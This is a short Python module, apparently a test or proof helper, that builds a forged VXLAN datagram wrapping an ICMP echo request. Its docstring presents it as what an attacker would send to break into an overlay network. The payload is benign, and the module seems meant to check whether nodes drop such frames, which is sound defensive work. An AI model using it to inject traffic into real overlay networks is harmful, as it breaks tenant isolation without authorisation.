"""A forged VXLAN frame: what an attacker would send to get into an overlay network."""

from __future__ import annotations

import socket
import struct

_ECHO_REQUEST = 8
_ICMP = 1
_TTL = 64
_PAYLOAD = b"clear text for a proof: drop me"


def forged(vni: int, source: tuple[str, str], target: tuple[str, str]) -> bytes:
    """The content of a UDP datagram to the VXLAN port: an ICMP echo request inside of a network.

    source, target: hardware and IPv4 address inside of the network. A node that lets it in gives
    it to the target, whose kernel counts it. (RFC 7348; RFC 791, 792)
    """
    echo = struct.pack("!BBHHH", _ECHO_REQUEST, 0, 0, 1, 1) + _PAYLOAD
    echo = echo[:2] + struct.pack("!H", _checksum(echo)) + echo[4:]
    packet = struct.pack(
        "!BBHHHBBH4s4s",
        *(0x45, 0, 20 + len(echo), 1, 0, _TTL, _ICMP, 0),
        socket.inet_aton(source[1]),
        socket.inet_aton(target[1]),
    )
    packet = packet[:10] + struct.pack("!H", _checksum(packet)) + packet[12:]
    ethernet = _hardware(target[0]) + _hardware(source[0]) + b"\x08\x00"
    return struct.pack("!II", 0x08000000, vni << 8) + ethernet + packet + echo


def _hardware(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


def _checksum(data: bytes) -> int:
    """The internet checksum (RFC 1071)."""
    data += b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
